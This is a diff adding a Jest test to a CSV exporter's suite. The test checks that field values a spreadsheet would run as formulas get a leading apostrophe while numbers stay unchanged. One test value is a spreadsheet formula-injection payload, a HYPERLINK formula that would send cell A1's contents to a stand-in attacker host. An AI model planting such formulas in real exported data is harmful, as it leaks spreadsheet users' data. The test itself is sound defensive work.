@@ -147,6 +147,25 @@ describe('formats, read back by real readers', () => {
     expect(readFileSync(join(work.dir, 'b.csv'), 'utf8').startsWith('\uFEFF')).toBe(true);
   });
 
+  test('csv: text a spreadsheet would run as a formula is marked as text; numbers are not', async () => {
+    writeFileSync(
+      join(lib, 'formula.md'),
+      '---\ntitle: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Click\\")"\nexcerpt: "+1 for the mayor"\nprovider:\n  name: "@newsdesk"\n  domain: "-cmd.example"\nheat: -3\npublished: true\n---\n',
+    );
+    await library.refresh('formula.md');
+    await exportTo('csv', 'f.csv');
+    const rows = parseCsv(readFileSync(join(work.dir, 'f.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.id === 'formula.md')).toMatchObject({
+      title: '\'=HYPERLINK("https://evil.example/?"&A1, "Click")',
+      excerpt: "'+1 for the mayor",
+      provider: "'@newsdesk",
+      providerDomain: "'-cmd.example",
+      heat: '-3',
+    });
+    // Ordinary text is untouched.
+    expect(rows.find((r) => r.id === 'world/cafe.md')).toMatchObject({ title: 'Café culture returns — to Zürich' });
+  });
+
   test('rss: an XML parser reads a valid RSS 2.0 feed with every item', async () => {
     await exportTo('rss', 'feed.xml', { channel: { title: 'Tech & Policy <daily>', link: 'https://news.example/' } });
     const xml = readFileSync(join(work.dir, 'feed.xml'), 'utf8');
